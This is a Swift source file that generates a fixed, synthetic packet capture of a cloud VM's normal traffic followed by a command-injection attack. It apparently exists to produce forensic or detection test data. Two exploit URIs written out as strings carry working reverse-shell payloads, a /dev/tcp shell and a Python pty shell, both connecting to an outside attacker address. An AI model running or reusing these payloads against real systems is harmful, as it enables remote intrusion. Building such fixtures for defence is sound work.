import FleetModel
import PcapWriter

/// The attack story: a cloud VM (172.31.6.55) serving HTTP on port 3000 does its normal
/// work (VPC-resolver DNS, HTTPS to the answered addresses, metadata calls, an intra-VPC
/// call, an admin SSH session), then 35.217.6.162 exploits a command injection in
/// `/dangerzone` and the VM connects back to 35.217.6.162:3000 with a shell for ~15 minutes.
///
/// Everything is fixed: the file is byte-identical on every run.
enum StoryCapture {
    static let vm = IPAddress("172.31.6.55") ?? .v4(0)
    static let resolver = Endpoint("172.31.0.2", 53)
    static let metadata = IPAddress("169.254.169.254") ?? .v4(0)
    static let vpcPeer = IPAddress("172.31.9.10") ?? .v4(0)
    static let admin = IPAddress("203.0.113.10") ?? .v4(0)
    static let attacker = IPAddress("35.217.6.162") ?? .v4(0)
    static let github = IPAddress("140.82.121.4") ?? .v4(0)
    static let chuckNorris = [IPAddress("104.21.4.48") ?? .v4(0), IPAddress("172.67.132.125") ?? .v4(0)]
    static let chuckNorrisV6 = [IPAddress("2606:4700:3036::6815:430") ?? .v4(0), IPAddress("2606:4700:3030::ac43:847d") ?? .v4(0)]

    /// 2025-11-28T08:00:00Z.
    static let start = NetworkTime(seconds: 1_764_316_800, microseconds: 0)

    /// The first exploit request's URI, exactly as the attacker sent it.
    static let reverseShellURI =
        "/dangerzone?category=fashion%26%26sh%20-i%20%3E%26%20/dev/tcp/35.217.6.162/3000%200%3E%261"

    /// The second exploit request: a python pty reverse shell, percent-encoded.
    static let pythonPTYURI = "/dangerzone?category=" + percentEncode(
        "fashion&&python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"35.217.6.162\",3000));"
            + "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"
    )

    /// Outbound frames: VM MAC to the VPC gateway; inbound conversations mirror them.
    static var outbound: PacketBuilder {
        PacketBuilder(sourceMAC: MACAddress(0x0a1b_2c3d_4e5f), destinationMAC: MACAddress(0x0aff_ffff_ff01))
    }

    static var inbound: PacketBuilder {
        PacketBuilder(sourceMAC: MACAddress(0x0aff_ffff_ff01), destinationMAC: MACAddress(0x0a1b_2c3d_4e5f))
    }

    static func at(_ seconds: Double) -> NetworkTime {
        start + NetworkDuration(microseconds: Int64(seconds * 1_000_000))
    }

    /// All frames in time order.
    static func frames() -> [TimedFrame] {
        var story = StoryBuilder()
        var port: UInt16 = 40_100
        func nextPort() -> UInt16 { port += 7; return port }

        // Boot-time metadata checks and normal outbound work.
        story.metadataCall(path: "/latest/meta-data/", body: "ami-id\nhostname\ninstance-id\ninstance-type\nlocal-ipv4\nplacement/\nsecurity-groups\n", at: at(0.5), port: nextPort())
        story.metadataCall(path: "/latest/meta-data/instance-id", body: "i-0f3a9c2d1b4e5a6f7", at: at(1.2), port: nextPort())
        story.lookupAndFetch(name: "github.com", addresses: [github], ttl: 60, id: 0x1a2b, at: at(3), port: nextPort(), sourcePort: 51_001)
        story.lookupAndFetch(name: "api.chucknorris.io", addresses: chuckNorris, ttl: 300, id: 0x2b3c, at: at(6), port: nextPort(), sourcePort: 51_002)
        story.dnsAAAA(name: "api.chucknorris.io", addresses: chuckNorrisV6, id: 0x2b3d, at: at(6.01), sourcePort: 51_003)
        story.intraVPC(to: vpcPeer, at: at(12), port: nextPort())

        // Normal visitors to the web app on :3000 throughout.
        let visitors = ["198.51.100.7", "198.51.100.23", "192.0.2.44", "198.51.100.7", "192.0.2.91"]
        for (index, visitor) in visitors.enumerated() {
            story.webVisit(from: IPAddress(visitor) ?? .v4(0), port: UInt16(50_200 + index * 13),
                           uri: "/dangerzone?category=fashion", at: at(20 + Double(index) * 230))
        }
        // The app keeps calling its joke API every few minutes.
        for round in 1...5 {
            let time = 60 + Double(round) * 290
            story.lookupAndFetch(name: "api.chucknorris.io", addresses: chuckNorris, ttl: 300, id: UInt16(0x3000 + round),
                                 at: at(time), port: nextPort(), sourcePort: UInt16(51_010 + round))
        }

        // The administrator's SSH session from the known office address: ~20 minutes.
        story.sshSession(from: admin, port: 61_022, at: at(90), duration: 1_205)

        // The attack.
        let attack = 1_420.0
        story.exploitRequest(uri: reverseShellURI, port: 52_814, at: at(attack))
        story.reverseShell(localPort: 41_862, at: at(attack + 0.38), duration: 905)
        story.exploitRequest(uri: pythonPTYURI, port: 52_830, at: at(attack + 41))
        // The second shell finds the attacker's listener busy: refused.
        story.refusedCallback(localPort: 41_870, at: at(attack + 41.3))
        return story.sorted()
    }

    /// Percent-encodes everything except unreserved characters and `/`.
    static func percentEncode(_ text: String) -> String {
        let hex = Array("0123456789ABCDEF")
        var result = ""
        for byte in text.utf8 {
            let scalar = Unicode.Scalar(byte)
            if (byte >= 0x30 && byte <= 0x39) || (byte >= 0x41 && byte <= 0x5a) || (byte >= 0x61 && byte <= 0x7a)
                || "-._~/".unicodeScalars.contains(scalar) {
                result.unicodeScalars.append(scalar)
            } else {
                result += "%" + String(hex[Int(byte >> 4)]) + String(hex[Int(byte & 0x0f)])
            }
        }
        return result
    }
}
